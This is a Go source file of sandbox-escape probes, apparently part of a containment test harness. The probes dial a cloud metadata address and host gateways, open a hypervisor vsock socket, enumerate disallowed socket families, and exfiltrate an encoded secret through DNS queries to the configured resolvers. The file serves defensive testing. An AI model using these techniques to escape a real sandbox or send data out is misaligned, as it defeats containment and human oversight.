package probe

import (
	"encoding/hex"
	"fmt"
	"net"
	"os"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

func init() {
	register("F1", "f", "host loopback services, metadata, DNS stub, IPv6", probeF1)
	register("F2", "f", "AF_VSOCK to the hypervisor", probeF2)
	register("F3", "f", "socket families beyond the allow-list", probeF3)
	register("F4", "f", "DNS exfiltration through a resolver", probeF4)
}

// probeF1 connects to TCP_SRV on both loopbacks and to outside addresses.
func probeF1(p *run) {
	port := p.arg("tcp")
	for _, a := range []string{"127.0.0.1:" + port, "[::1]:" + port, "169.254.169.254:80", "10.0.2.2:80"} {
		c, err := net.DialTimeout("tcp", a, time.Second)
		if p.step("connect "+a, err) {
			c.Close()
			p.escape("connected to %s", a)
		}
	}
	ifs, err := net.Interfaces()
	if p.step("list interfaces", err) {
		var names []string
		for _, i := range ifs {
			names = append(names, i.Name)
		}
		p.note("interfaces: %s", strings.Join(names, ","))
	}
}

// probeF2 opens a vsock socket and connects to the host (CID 2).
func probeF2(p *run) {
	fd, err := unix.Socket(unix.AF_VSOCK, unix.SOCK_STREAM, 0)
	if !p.step("socket(AF_VSOCK)", err) {
		return
	}
	defer unix.Close(fd)
	p.escape("AF_VSOCK socket created")
	p.step("connect CID 2:9999", unix.Connect(fd, &unix.SockaddrVM{CID: 2, Port: 9999}))
}

// allowedFamilies is the socket families a sandbox may use.
var allowedFamilies = map[int]bool{unix.AF_UNIX: true, unix.AF_INET: true, unix.AF_INET6: true, unix.AF_NETLINK: true}

// probeF3 creates a socket of every family and type and lists the ones
// beyond the allow-list that worked.
func probeF3(p *run) {
	var extra []string
	tried := 0
	for fam := 0; fam <= 45; fam++ {
		if allowedFamilies[fam] {
			continue
		}
		for _, typ := range []int{unix.SOCK_STREAM, unix.SOCK_DGRAM, unix.SOCK_RAW, unix.SOCK_SEQPACKET} {
			tried++
			fd, err := unix.Socket(fam, typ|unix.SOCK_CLOEXEC, 0)
			if err == nil {
				unix.Close(fd)
				extra = append(extra, fmt.Sprintf("%d/%d", fam, typ))
			}
		}
	}
	for _, proto := range []int{unix.IPPROTO_ICMP, unix.IPPROTO_RAW} {
		if fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW, proto); p.step(fmt.Sprintf("socket(INET, RAW, %d)", proto), err) {
			unix.Close(fd)
			extra = append(extra, fmt.Sprintf("inet-raw/%d", proto))
		}
	}
	p.step(fmt.Sprintf("socket() over %d family/type pairs", tried), nil)
	if len(extra) > 0 {
		p.escape("families beyond unix/inet/inet6/netlink (family/type): %s", strings.Join(extra, " "))
	}
}

// probeF4 sends a DNS query carrying data to the harness's fake resolver
// and to the configured resolvers.
func probeF4(p *run) {
	name := hex.EncodeToString([]byte("airlock-secret")) + ".exfil.test"
	q := dnsQuery(name)
	targets := []string{"127.0.0.1:" + p.arg("dns")}
	if b, err := os.ReadFile("/etc/resolv.conf"); err == nil {
		for _, l := range strings.Split(string(b), "\n") {
			if f := strings.Fields(l); len(f) == 2 && f[0] == "nameserver" {
				targets = append(targets, net.JoinHostPort(f[1], "53"))
			}
		}
	}
	for _, t := range targets {
		c, err := net.Dial("udp", t)
		if !p.step("dial udp "+t, err) {
			continue
		}
		c.SetDeadline(time.Now().Add(time.Second))
		c.Write(q)
		buf := make([]byte, 512)
		n, err := c.Read(buf)
		if p.step("DNS answer from "+t, err) && n > 0 {
			p.escape("resolver %s answered a query for %s", t, name)
		}
		c.Close()
	}
}

func dnsQuery(name string) []byte {
	b := []byte{0xa1, 0x0c, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0}
	for _, l := range strings.Split(name, ".") {
		b = append(b, byte(len(l)))
		b = append(b, l...)
	}
	return append(b, 0, 0, 1, 0, 1)
}
